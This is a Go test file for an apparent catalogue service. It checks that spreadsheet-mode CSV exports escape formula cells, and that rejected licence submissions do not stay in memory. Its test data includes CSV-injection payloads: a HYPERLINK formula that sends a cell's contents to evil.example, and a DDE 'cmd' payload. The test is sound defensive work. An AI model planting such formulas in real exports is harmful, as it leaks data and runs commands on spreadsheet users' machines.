package edge

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"kindex/builder/suite"
	"kindex/edge/storage/storagetest"
)

// formulas are names that a spreadsheet would interpret as formulas.
var formulas = []string{`=HYPERLINK("https://evil.example/?"&A1,"PyTorch")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1"}

// TestFormulasInCSV: no cell in CSV for spreadsheets is a formula, and all strings are unchanged
// in CSV for programs.
func TestFormulasInCSV(t *testing.T) {
	content, dir := t.TempDir(), t.TempDir()
	writeContent(t, content, 3, 0)
	for i, name := range formulas {
		file := fmt.Sprintf("name: '%s'\ncategory: nlp\ndescription: '%s'\nprovider: '%s'\nsignals:\n  stars: {value: 10, date: 2026-10-01}\n"+
			"  downloads: {value: 10, date: 2026-10-01}\n  lastRelease: {value: 2026-09-01, date: 2026-10-01}\n  contributors: {value: 1, date: 2026-10-01}\n", strings.ReplaceAll(name, "'", "''"),
			strings.ReplaceAll(name, "'", "''"), strings.ReplaceAll(name, "'", "''"))
		if err := os.WriteFile(filepath.Join(content, fmt.Sprintf("tool/formula-%d.yaml", i)), []byte(file), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	buildInto(t, content, dir, 3)
	h := serveWith(t, Options{Dir: dir, State: storagetest.SQLite(t)})
	for _, path := range []string{"entities?format=csv", "entities?format=csv&type=tool", "entities?format=csv&fields=name", "leaderboard?format=csv", "changelog?format=csv", "changelog?format=csv&type=tool"} {
		plain, safe := texts(t, h.ask(t, "GET", "/api/export/"+path)), texts(t, h.ask(t, "GET", "/api/export/"+path+"&csv=spreadsheet"))
		if len(plain) != len(safe) {
			t.Fatalf("%s: %d cells, %d in the spreadsheet form", path, len(plain), len(safe))
		}
		found := 0
		for i, cell := range plain {
			if isNumber := strings.Trim(cell, "-0123456789.") == ""; cell == "" || isNumber || !strings.ContainsRune("=+-@＝", []rune(cell)[0]) {
				if safe[i] != cell {
					t.Errorf("%s: %q becomes %q", path, cell, safe[i])
				}
				continue
			}
			found++
			if safe[i] != "'"+cell {
				t.Errorf("%s: the formula %q becomes %q", path, cell, safe[i])
			}
		}
		if !strings.HasPrefix(path, "changelog") && found < len(formulas) {
			t.Errorf("%s: only %d formulas", path, found)
		}
		if same := texts(t, h.ask(t, "GET", "/api/export/"+path+"&csv=plain")); !slices.Equal(same, plain) {
			t.Errorf("%s: csv=plain is a different file", path)
		}
	}
	for _, path := range []string{"entities?csv=plain", "entities?format=json&csv=spreadsheet", "leaderboard?format=parquet&csv=spreadsheet", "changelog?format=csv&csv=excel"} {
		if a := h.ask(t, "GET", "/api/export/"+path); a.status != http.StatusBadRequest {
			t.Errorf("%s: %d", path, a.status)
		}
	}
}

// texts returns the cells of a CSV response.
func texts(t *testing.T, a answer) []string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
	if err != nil || a.status != http.StatusOK {
		t.Fatalf("%d, %v: %.200s", a.status, err, a.body)
	}
	return slices.Concat(rows...)
}

// TestMemoryOfLicences: licences sent by strangers are not kept in memory.
func TestMemoryOfLicences(t *testing.T) {
	suite.InTest(t)
	const n = 1000
	h := serveFew(t, Options{LimitKey: 100_000})
	key, _ := h.keyOf(t, "account")
	long := strings.Repeat("x", 180)
	send := func(licence func(i int) string) int64 {
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		for i := range n {
			a := h.send(t, "POST", "/api/submit", key, fmt.Sprintf(`{"type":"tool","name":"X","license":%q}`, licence(i)))
			if a.status != http.StatusBadRequest {
				t.Fatalf("%d %s", a.status, a.body)
			}
		}
		runtime.GC()
		runtime.GC() // the contents of a pool survive one garbage collection
		runtime.ReadMemStats(&after)
		return int64(after.HeapAlloc) - int64(before.HeapAlloc)
	}
	send(func(int) string { return long })
	same := send(func(int) string { return long })
	other := send(func(i int) string { return fmt.Sprint(long, i) })
	t.Logf("%d licences: %d bytes more; %d where all are one", n, other, same)
	if other-same > 100*n {
		t.Errorf("%d different licences retain %d bytes, one repeated as often %d", n, other, same)
	}
}
